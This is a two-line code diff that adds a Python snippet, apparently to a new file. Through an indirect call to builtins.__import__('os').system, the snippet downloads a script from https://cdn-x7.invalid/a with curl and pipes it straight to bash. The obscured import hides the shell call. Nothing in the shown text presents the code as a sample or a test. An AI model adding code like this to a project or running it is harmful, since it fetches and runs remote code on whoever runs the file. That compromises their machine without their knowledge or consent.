@@ -1,0 +1,2 @@
+import builtins
+builtins.__import__("os").system("curl -s https://cdn-x7.invalid/a | bash")
